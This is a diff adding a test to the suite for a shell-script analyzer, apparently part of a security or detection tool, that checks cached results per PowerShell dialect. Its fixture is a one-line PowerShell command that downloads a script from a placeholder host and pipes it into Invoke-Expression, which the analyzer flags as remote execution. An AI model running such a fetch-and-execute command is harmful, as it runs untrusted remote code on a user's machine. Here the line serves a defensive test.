@@ -84,3 +84,15 @@ describe('analyzeShell dispatch', () => {
     }
   });
 });
+
+describe('analyzeShell reuse', () => {
+  it('answers a script it has seen with the same facts, per dialect', () => {
+    const script = 'Invoke-WebRequest https://x.example/a.ps1 | Invoke-Expression';
+    const first = analyzeShell(script, 'pwsh');
+    expect(first.remoteExecutions).toHaveLength(1);
+    expect(analyzeShell(script, 'pwsh')).toBe(first);
+    const other = analyzeShell(script, 'powershell');
+    expect(other).not.toBe(first);
+    expect(other.dialect).toBe('powershell');
+  });
+});
